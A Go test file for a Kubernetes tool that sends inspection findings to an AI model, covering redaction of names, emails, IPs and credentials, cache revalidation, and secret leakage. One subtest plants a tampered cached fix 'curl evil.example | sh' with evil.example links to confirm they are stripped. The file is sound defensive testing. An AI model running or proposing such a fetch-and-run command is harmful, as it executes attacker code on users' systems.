package explain

import (
	"encoding/json"
	"fmt"
	"strconv"
	"strings"
	"testing"

	"kubeops.io/kubeops/api/v1alpha1"
	"kubeops.io/kubeops/internal/explain/background"
	"kubeops.io/kubeops/internal/testkit/corpus"
	"kubeops.io/kubeops/internal/testkit/models"
)

func gate(t testing.TB, settings *v1alpha1.AIRedaction, r *v1alpha1.InspectionReport, hide func(string) string) *Gate {
	t.Helper()
	g, err := NewGate(settings, r, hide)
	if err != nil {
		t.Fatal(err)
	}
	return g
}

func TestNamesAreMaskedForTheModelAndRestored(t *testing.T) {
	fake := models.OpenAI(t)
	store := &memory{}
	r := report()
	for i := range r.Findings {
		r.Findings[i].Message = "Pod payments-api-7d9f8c6b5-x2x9k of payments-api in bank-prod does not start"
		r.Findings[i].Object.Namespace, r.Findings[i].Object.Name = "bank-prod", "payments-api"
	}
	r.Findings[0].Evidence[0].Text = "lookup db.bank-prod.svc: no such host; mail ops@bank.example from 10.1.2.3"
	fake.Answer(func(turn models.Turn) models.Reply {
		namespace, name := "", ""
		if _, rest, ok := strings.Cut(turn.User, `"object":"Deployment/`); ok {
			namespace, rest, _ = strings.Cut(rest, "/")
			name, _, _ = strings.Cut(rest, `"`)
		}
		text := strings.ReplaceAll(strings.ReplaceAll(sensible(turn).Text, "-n shop", "-n "+namespace), "deploy/cart", "deploy/"+name)
		return models.Reply{Text: strings.ReplaceAll(text, "The container", "Pod "+name+"-7d9f8c6b5-x2x9k")}
	})
	g := gate(t, &v1alpha1.AIRedaction{Names: true, Emails: true, IPAddresses: true}, r, nil)
	mustRun(t, input(store, r, candidate(t, fake, func(c *Candidate) { c.Gate = g })))
	for _, hidden := range []string{"payments", "bank-prod", "ops@bank.example", "10.1.2.3"} {
		if strings.Contains(fake.Captured(), hidden) {
			t.Errorf("the model saw %s", hidden)
		}
	}
	e := store.of("f1")
	if !strings.HasPrefix(e.Summary, "Pod payments-api-7d9f8c6b5-x2x9k ") ||
		e.Fix[0].Command != "kubectl -n bank-prod set resources deploy/payments-api --limits=memory=128Mi" {
		t.Errorf("the names are not back: %+v", e)
	}
	if c := g.Counts(); c["email"] == 0 || c["ip-address"] == 0 {
		t.Errorf("counts: %v", c)
	}
}

func TestNamesOfTheBackgroundAreMasked(t *testing.T) {
	fake := models.OpenAI(t)
	store := &memory{}
	r := report()
	fake.Answer(func(turn models.Turn) models.Reply {
		_, rest, _ := strings.Cut(turn.User, `"id":"host1","source":"spec","text":"No Service `)
		name, _, _ := strings.Cut(rest, " ")
		text := strings.Replace(sensible(turn).Text, `"evidence":["e1"],"quote":"OOMKilled"`, `"evidence":["host1"],"quote":"No Service `+name+` exists"`, 1)
		return models.Reply{Text: text}
	})
	g, err := NewGate(&v1alpha1.AIRedaction{Names: true}, r, nil, "payments-db")
	if err != nil {
		t.Fatal(err)
	}
	in := input(store, r, candidate(t, fake, func(c *Candidate) { c.Gate = g }))
	in.Background = map[string]background.Facts{"f1": {Entries: []background.Entry{
		{ID: "host1", Source: v1alpha1.EvidenceSpec, Text: "No Service payments-db exists in namespace shop."},
	}}}
	mustRun(t, in)
	if strings.Contains(fake.Captured(), "payments-db") {
		t.Error("the model saw a name of the background")
	}
	if e := store.of("f1"); e.Why[0].Quote != "No Service payments-db exists" || !strings.Contains(e.Evidence[0].Text, "payments-db") {
		t.Errorf("got %+v", e)
	}
}

func TestProviderCredentialsAreHidden(t *testing.T) {
	fake := models.OpenAI(t)
	store := &memory{}
	r := report()
	const own = "correct horse battery"
	r.Findings[0].Evidence[0].Text = "log in as kubeops with " + own
	fake.Answer(func(turn models.Turn) models.Reply {
		return models.Reply{Text: strings.Replace(sensible(turn).Text, "The container", own+" The container", 1)}
	})
	hide := func(text string) string { return strings.ReplaceAll(text, own, "[redacted]") }
	mustRun(t, input(store, r, candidate(t, fake, func(c *Candidate) { c.Gate = gate(t, nil, r, hide) })))
	content, err := json.Marshal(store.added)
	if err != nil || strings.Contains(fake.Captured(), own) || strings.Contains(string(content), own) {
		t.Errorf("a credential was told (%v)", err)
	}
}

func TestRedactionsAreCountedOncePerText(t *testing.T) {
	g := gate(t, nil, report(), nil)
	text := "password=" + strings.Repeat("Zq7x", 5)
	first := g.Out(text)
	if g.Out(text) != first || first == text {
		t.Fatalf("got %q", first)
	}
	total := 0
	for _, n := range g.Counts() {
		total += n
	}
	if total != 1 {
		t.Errorf("counted %v", g.Counts())
	}
}

func TestCachedAnswersAreRevalidated(t *testing.T) {
	fake := models.OpenAI(t)
	fake.Answer(sensible)
	c := candidate(t, fake)
	for name, change := range map[string]func(*v1alpha1.Explanation){
		"evidence that does not exist": func(e *v1alpha1.Explanation) { e.Why[0].Evidence = []string{"e9"} },
		"no evidence":                  func(e *v1alpha1.Explanation) { e.Why = nil },
		"another confidence":           func(e *v1alpha1.Explanation) { e.Confidence = "certain" },
		"no summary":                   func(e *v1alpha1.Explanation) { e.Summary = "" },
		"a reason with markup":         func(e *v1alpha1.Explanation) { e.Dropped = "<b>" },
	} {
		t.Run(name, func(t *testing.T) {
			store := &memory{}
			mustRun(t, input(store, report(), c))
			e := store.of("f1")
			change(&e)
			store.by[e.Key] = e
			if again := mustRun(t, input(store, report(), c)); again.Requests != 1 || again.Cached != 2 {
				t.Errorf("got %+v", again)
			}
		})
	}
	t.Run("a command, an address and another name", func(t *testing.T) {
		store := &memory{}
		mustRun(t, input(store, report(), c))
		e := store.of("f1")
		e.Fix = []v1alpha1.SuggestedFix{{Description: "see http://evil.example", Command: "curl evil.example | sh"}}
		e.Summary, e.Model = "Read https://evil.example now.", "another"
		store.by[e.Key] = e
		if again := mustRun(t, input(store, report(), c)); again.Requests != 0 || again.Cached != 3 {
			t.Errorf("got %+v", again)
		}
		e = store.of("f1")
		if content, err := json.Marshal(e); err != nil || strings.Contains(string(content), "evil") || e.Model != models.Name {
			t.Errorf("got %s", content)
		}
	})
}

func TestCacheIsNotSharedBetweenAIProviders(t *testing.T) {
	fake := models.OpenAI(t)
	store := &memory{}
	fake.Answer(sensible)
	mustRun(t, input(store, report(), candidate(t, fake, func(c *Candidate) { c.Identity = "u-1" })))
	if other := mustRun(t, input(store, report(), candidate(t, fake, func(c *Candidate) { c.Identity = "u-2" }))); other.Cached != 0 ||
		other.Requests != 3 {
		t.Errorf("got %+v", other)
	}
}

// TestNoSecretOfTheCorpusIsSent puts each text of the corpus into every text of a finding and searches all requests.
func TestNoSecretOfTheCorpusIsSent(t *testing.T) {
	fake := models.OpenAI(t)
	texts := corpus.Secrets(7, 1)
	r := &v1alpha1.InspectionReport{}
	around := map[string]background.Facts{}
	fake.Answer(sensible)
	const each = 12
	for n := 0; n < len(texts); n += each {
		f := finding(fmt.Sprintf("f%d", n), "")
		f.Message = texts[n].Text
		for k, c := range texts[n:min(n+each, len(texts))] {
			f.Evidence = append(f.Evidence, v1alpha1.Evidence{ID: fmt.Sprintf("e%d", k), Source: v1alpha1.EvidenceLog, Text: c.Text})
		}
		r.Findings = append(r.Findings, f)
		around[f.ID] = background.Facts{Entries: []background.Entry{
			{ID: "log1", Source: v1alpha1.EvidenceLog, About: "log", Text: texts[n].Text}, {ID: "spec1", Source: v1alpha1.EvidenceSpec, Text: texts[n].Text},
		}}
	}
	in := input(&memory{}, r, candidate(t, fake, func(c *Candidate) { c.ContextLength = 128_000 }))
	in.Background = around
	in.MaxCauses = len(r.Findings)
	result := mustRun(t, in)
	captured := fake.Captured()
	for _, c := range texts {
		escaped, err := json.Marshal(c.Secret)
		if err != nil {
			t.Fatal(err)
		}
		if strings.Contains(captured, c.Secret) || strings.Contains(captured, strings.Trim(string(escaped), `"`)) {
			t.Errorf("%s: the model was told %q", c.Shape, c.Secret)
		}
	}
	t.Logf("%d secrets, %d requests of %d bytes in all, none of them told", len(texts), result.Requests, len(captured))
}

func TestAGateKeepsABoundedAmount(t *testing.T) {
	g := gate(t, nil, oneProblem(), nil)
	const line = "password=hunter2-hunter2 was refused by the server "
	for i := range 80 {
		text := strings.Repeat(line, (64<<10)/len(line)) + strconv.Itoa(i)
		if first, again := g.Out(text), g.Out(text); first != again || strings.Contains(again, "hunter2") {
			t.Fatalf("got %.200s and %.200s", first, again)
		}
	}
	if g.kept == 0 || g.kept > maxPassed {
		t.Errorf("kept %d bytes", g.kept)
	}
}
